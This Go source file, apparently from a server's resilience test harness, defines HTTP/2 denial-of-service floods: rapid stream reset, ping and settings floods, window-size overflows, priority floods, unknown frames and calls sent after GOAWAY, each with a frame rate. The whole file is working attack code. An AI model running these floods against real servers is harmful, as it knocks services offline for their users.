package hostile

import (
	"encoding/binary"

	"golang.org/x/net/http2"
)

// floods are frames that ask little of the one who sends them. The rate is in frames,
// but for resets, where it is in calls.
func floods() []attack {
	message := question()
	return []attack{
		{name: "rapid reset", rate: 5000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				id := w.open(true, fields(authorize))
				w.do(func(f *http2.Framer) error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
			})
		}},
		{name: "cancelled calls", rate: 5000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				id := w.call(authorize, message)
				w.do(func(f *http2.Framer) error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
			})
		}},
		{name: "resets of what is not there", rate: 20000, run: func(a *attacker) {
			a.flood(func(w *wire) { w.call(healthCheck, empty) }, func(w *wire) {
				w.do(func(f *http2.Framer) error { return f.WriteRSTStream(1, http2.ErrCodeCancel) })
			})
		}},
		{name: "streams without end", rate: 5000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) { w.open(false, fields(authorize)) })
		}},
		{name: "pings", rate: 20000, run: func(a *attacker) { a.flood(nil, ping) }},
		{name: "pings between calls", rate: 20000, run: func(a *attacker) {
			a.flood(func(w *wire) { w.call(healthWatch, empty) }, func(w *wire) {
				if w.stream%40 != 1 { // each answer forgives the pings before it
					w.stream += 2
					ping(w)
					return
				}
				w.call(healthCheck, empty)
			})
		}},
		{name: "settings", rate: 20000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) { w.do(func(f *http2.Framer) error { return f.WriteSettings() }) })
		}},
		{name: "settings that change the windows", rate: 5000, run: func(a *attacker) {
			size := uint32(0)
			a.flood(hundredCalls, func(w *wire) {
				size ^= 1 << 16
				many := make([]http2.Setting, 100)
				for i := range many {
					many[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: size}
				}
				w.do(func(f *http2.Framer) error { return f.WriteSettings(many...) })
			})
		}},
		{name: "settings that change the table", rate: 20000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				w.do(func(f *http2.Framer) error {
					return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1 << 30})
				})
			})
		}},
		{name: "window updates", rate: 20000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) { w.do(func(f *http2.Framer) error { return f.WriteWindowUpdate(0, 1) }) })
		}},
		{name: "windows that overflow", rate: 2000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				id := w.call(healthWatch, empty)
				w.do(func(f *http2.Framer) error { return f.WriteWindowUpdate(id, 1<<31-1) })
				w.do(func(f *http2.Framer) error { return f.WriteWindowUpdate(id, 1<<31-1) })
				w.do(func(f *http2.Framer) error { return f.WriteWindowUpdate(0, 1<<31-1) })
			})
		}},
		{name: "window updates of nothing", rate: 5000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				id := w.open(false, fields(healthWatch))
				w.do(func(f *http2.Framer) error { return f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) })
			})
		}},
		{name: "priorities", rate: 20000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				w.stream += 2
				w.do(func(f *http2.Framer) error {
					return f.WritePriority(w.stream-1, http2.PriorityParam{StreamDep: w.stream + 1, Weight: 255})
				})
			})
		}},
		{name: "frames of no known type", rate: 20000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				w.do(func(f *http2.Framer) error { return f.WriteRawFrame(0xbb, 0xff, 0, []byte("hostile")) })
			})
		}},
		{name: "goaway, and going on", rate: 5000, run: func(a *attacker) {
			a.flood(nil, func(w *wire) {
				w.do(func(f *http2.Framer) error { return f.WriteGoAway(w.stream, http2.ErrCodeNo, []byte("bye")) })
				w.call(healthCheck, empty)
			})
		}},
	}
}

func ping(w *wire) {
	var data [8]byte
	binary.BigEndian.PutUint32(data[:], w.stream)
	w.do(func(f *http2.Framer) error { return f.WritePing(false, data) })
}

// hundredCalls opens streams that the settings of windows matter to.
func hundredCalls(w *wire) {
	for range 100 {
		w.call(healthWatch, empty)
	}
}
